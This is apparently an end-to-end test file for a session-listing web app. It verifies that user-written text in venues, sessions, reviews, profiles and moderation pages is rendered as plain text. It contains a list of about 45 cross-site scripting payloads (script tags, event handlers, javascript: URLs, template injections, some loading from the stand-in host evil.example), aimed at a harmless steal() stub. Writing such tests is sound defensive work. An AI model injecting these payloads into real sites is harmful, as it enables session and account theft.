import { describe, expect, it } from 'vitest'
import type { Page } from 'playwright-core'
import { address, openTab, useBrowser, watchViolations, type Violation } from './browser'
import { addVenue, moderator, newMember, openTabOf, review, send, sendAs, shareSession, takeDown, type Member } from './members'

useBrowser()

/** Each would call steal() where some page took it for more than text. */
const ATTACKS = [
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/src="data:,steal()"></script>',
  '</script><script>steal()</script>',
  '--><script>steal()</script><!--',
  '</title><script>steal()</script>',
  '</textarea><script>steal()</script>',
  '<img src=x onerror=steal()>',
  '<img/src="x"/onerror="steal()">',
  '"><img src=x onerror=steal()>',
  '<img src="javascript:steal()">',
  '<<img src=x onerror=steal()//',
  '<svg onload=steal()>',
  '<svg><script>steal()</script></svg>',
  '<svg><animate onbegin=steal() attributeName=x>',
  '<svg><a xlink:href="javascript:steal()"><text>x</text></a>',
  '<body onload=steal()>',
  '<iframe src="javascript:steal()"></iframe>',
  '<iframe srcdoc="<script>parent.steal()</script>">',
  '<object data="javascript:steal()"></object>',
  '<a href="javascript:steal()">tunes</a>',
  '<a href="java&#09;script:steal()">tunes</a>',
  '<form action="javascript:steal()"><button>x</button>',
  '<input autofocus onfocus=steal()>',
  '<details open ontoggle=steal()>',
  '<video><source onerror=steal()></video>',
  '<marquee onstart=steal()>',
  '<meta http-equiv=refresh content="0;javascript:steal()">',
  '<base href="//evil.example/">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:steal())">',
  '<template><img src=x onerror=steal()></template>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '" autofocus onfocus="steal()',
  '\' onmouseover=\'steal()',
  '`-steal()-`',
  '\\\';steal();//',
  'javascript:steal()',
  'data:text/html,<script>steal()</script>',
  '{{constructor.constructor("steal()")()}}',
  '${steal()}',
  '<%= steal() %>',
  '&lt;script&gt;steal()&lt;/script&gt;',
  '%3Cscript%3Esteal()%3C/script%3E',
  '\\u003cscript\\u003esteal()\\u003c/script\\u003e',
]

/** One of every few, where time is short. */
const TRIED = process.env.FULL ? ATTACKS : ATTACKS.filter((_, n) => n % 3 === 0)

/** Each attack of a member is a venue, a session, a night, and an answer, some written twice: no more than a new member may do in an hour. */
const PER_MEMBER = 4

interface Target {
  attack: string
  venue: string
  session: string
}

/** Stores the attack in every text field, and says which refuse it. */
async function store(member: Member, reviewer: Member, attack: string): Promise<Target & { refused: string[] }> {
  const venue = await addVenue(member, 'The Plain House')
  const fields: Record<string, unknown> = {
    name: attack, nameIrish: attack, otherNames: [attack], formerNames: [attack], street: attack, town: attack, region: attack, phone: attack.slice(0, 40), website: attack,
    county: null, country: 'IS', gaeltacht: false, location: { lat: 63.42, lon: -19.01 }, timeZone: 'Atlantic/Reykjavik',
  }
  const change = () => send<{ errors?: { field: string }[] }>('PUT', `/venues/${venue}`, fields, { 'Authorization': `Bearer ${member.token}`, 'If-Match': '"v1"' })
  let answer = await change()
  const refused = (answer.data.errors ?? []).map(error => error.field)
  if (refused.length) {
    fields.website = `https://example.is/?${encodeURIComponent(attack)}`
    answer = await change()
  }
  expect([attack, answer.status, answer.data.errors]).toEqual([attack, 200, undefined])
  const schedule = { kind: 'IRREGULAR', note: attack, start: '21:00', end: null, season: null }
  const { session: { id } } = await shareSession(member, venue, { name: attack, craic: `${attack}\n${attack}`, schedule })
  const soon = new Date(Date.now() + 3 * 86_400_000).toISOString().slice(0, 10)
  await sendAs(member, 'PUT', `/sessions/${id}/occurrences/${soon}`, { status: 'CANCELLED', note: attack, at: null, to: null }, 1)
  await review(reviewer, id, 3, attack)
  await sendAs(member, 'PUT', `/sessions/${id}/reviews/1/answer`, { text: attack })
  return { attack, venue, session: id, refused }
}

/** Notes what runs, and what tried to. */
async function watch(page: Page): Promise<{ violations: Violation[], stolen: () => Promise<boolean> }> {
  await page.addInitScript(() => {
    Object.assign(window, { steal: () => sessionStorage.setItem('stolen', 'yes') })
  })
  page.on('dialog', dialog => dialog.dismiss())
  const violations = await watchViolations(page)
  return { violations, stolen: () => page.evaluate(() => sessionStorage.getItem('stolen') !== null) }
}

/** Goes there as a link does, and waits until the page shows the text, so often in its fields or around them. */
async function goTo(page: Page, path: string, text: string, times: number) {
  await page.evaluate((to) => {
    const root = document.querySelector('#__nuxt') as unknown as { __vue_app__: { config: { globalProperties: { $router: { push: (path: string) => void } } } } }
    root.__vue_app__.config.globalProperties.$router.push(to)
  }, path)
  const shown = () => page.evaluate(([to, wanted]) => {
    if (location.pathname !== to || document.querySelector('.page-loading')) return -1
    const fields = [...document.querySelectorAll<HTMLInputElement>('main input, main textarea')].map(field => field.value)
    return [document.querySelector('main')!.textContent, ...fields].join('\n').split(wanted!).length - 1
  }, [path, text])
  await expect.poll(shown, { message: `${path} shows ${text}`, interval: 25 }).toBeGreaterThanOrEqual(times)
}

describe('what members write', () => {
  it(`is text on every page that shows it, whatever it looks like: ${TRIED.length} attacks`, { timeout: 120_000 }, async () => {
    const groups = Array.from({ length: Math.ceil(TRIED.length / PER_MEMBER) }, (_, n) => TRIED.slice(n * PER_MEMBER, (n + 1) * PER_MEMBER))
    const reviewers = await Promise.all([newMember('Trudy'), newMember('Eve')])
    const stored = await Promise.all(groups.map(async (attacks, n) => {
      const member = await newMember(`Mallory ${n}`)
      const targets = []
      for (const attack of attacks) targets.push(await store(member, reviewers[n % reviewers.length]!, attack))
      return { member, targets }
    }))
    const all = stored.flatMap(({ targets }) => targets)
    expect([...new Set(all.flatMap(({ refused }) => refused))].sort()).toEqual(['website'])

    const busy = [...stored]
    const visit = async () => {
      for (let next = busy.pop(); next; next = busy.pop()) await visitPages(next.member, next.targets)
    }
    await Promise.all([visit(), visit()])

    const { page } = await openTab()
    const { violations, stolen } = await watch(page)
    await page.goto(address('/?country=is&night=any'), { waitUntil: 'networkidle' })
    const more = page.getByRole('button', { name: 'More sessions' })
    // The button comes and goes while the list loads.
    await expect.poll(async () => {
      if (await more.count()) await more.click().catch(() => {})
      return new Set(await page.locator('.card__title').allInnerTexts()).size
    }).toBeGreaterThanOrEqual(TRIED.length)
    expect(violations).toEqual([])
    expect(await stolen()).toBe(false)
    await Promise.all(stored.map(async ({ member, targets }) => {
      for (const { session } of targets) await takeDown(member, session)
    }))
  })
})

/** Many attacks at once, as long as such a text may be. */
function inTexts(attacks: readonly string[]): string[] {
  const texts = ['']
  for (const attack of attacks) {
    const longer = `${texts.at(-1)}\n${attack}`.trim()
    if (longer.length <= MAX_TEXT) texts[texts.length - 1] = longer
    else texts.push(attack)
  }
  return texts
}
const MAX_TEXT = 1000

describe('what is written to moderators, and by them', () => {
  it('is text on every page that shows it', { timeout: 90_000 }, async () => {
    const texts = inTexts(ATTACKS)
    const [mallory, trudy, moya] = await Promise.all([newMember('Mallory'), newMember('Trudy'), moderator()])
    const venue = await addVenue(mallory, 'The Plain House')
    const nth = (n: number) => texts[n % texts.length]!
    const decide = async (subject: string, decision: string, note: string) => {
      const { items } = await sendAs<{ items: { subject: string, version: number }[] }>(moya, 'GET', '/moderation/queue')
      const { version } = items.find(one => one.subject === subject)!
      await sendAs(moya, 'POST', '/moderation/decisions', { subject, version, decision, into: null, days: null, note })
    }
    const sessions = await Promise.all(texts.map(async () => (await shareSession(mallory, venue)).session.id))
    const subjects = sessions.map(session => `review:${session}:1`)
    // Each text is once a report, once a reason, and once an objection.
    for (const [n, subject] of subjects.entries()) {
      await review(trudy, sessions[n]!, 1, 'Plain.')
      await sendAs(mallory, 'POST', '/reports', { subject, reason: 'OTHER', text: nth(n) })
      await decide(subject, 'HIDE', nth(n + 1))
      await sendAs(trudy, 'POST', `/me/decisions/${encodeURIComponent(subject)}/objection`, { text: nth(n + 2) })
    }
    const tabs = await Promise.all([openTabOf(moya), openTabOf(trudy)])
    const [moderating, told] = await Promise.all(tabs.map(async tab => ({ ...tab, ...await watch(tab.page) })))
    await Promise.all(tabs.map(({ page }) => page.goto(address('/about'), { waitUntil: 'networkidle' })))
    for (const text of texts) {
      await goTo(moderating!.page, '/moderation', text, 3)
      await goTo(told!.page, '/profile', text, 2)
    }
    for (const [n, subject] of subjects.entries()) await decide(subject, 'KEEP', nth(n))
    for (const text of texts) await goTo(moderating!.page, '/moderation/log', text, 2)
    for (const { violations, problems, stolen } of [moderating!, told!]) {
      expect([...violations, ...problems]).toEqual([])
      expect(await stolen()).toBe(false)
    }
    for (const session of sessions) await takeDown(mallory, session)
  })
})

async function visitPages(member: Member, targets: readonly Target[]) {
  const { page, problems } = await openTabOf(member)
  const { violations, stolen } = await watch(page)
  let version = (await sendAs<{ version: number }>(member, 'GET', '/me')).version
  await page.goto(address('/about'), { waitUntil: 'networkidle' })
  for (const { attack, venue, session } of targets) {
    const profile = await sendAs<{ version: number }>(member, 'PUT', '/me', { displayName: attack, about: attack, instruments: [], homeCounty: null }, version)
    version = profile.version
    await goTo(page, '/profile', attack, 3)
    await goTo(page, `/sessions/${session}`, attack, 10)
    await goTo(page, `/venues/${venue}`, attack, 6)
    await goTo(page, `/venues/${venue}/edit`, attack, 8)
    // These show the same texts in the same parts: the long run looks at all of them.
    if (process.env.FULL || attack === targets[0]!.attack) {
      await goTo(page, `/sessions/${session}/edit`, attack, 4)
      await goTo(page, `/sessions/${session}/nights`, attack, 2)
    }
    expect([attack, ...violations, ...problems]).toEqual([attack])
    expect([attack, await stolen()]).toEqual([attack, false])
  }
  await page.close()
}
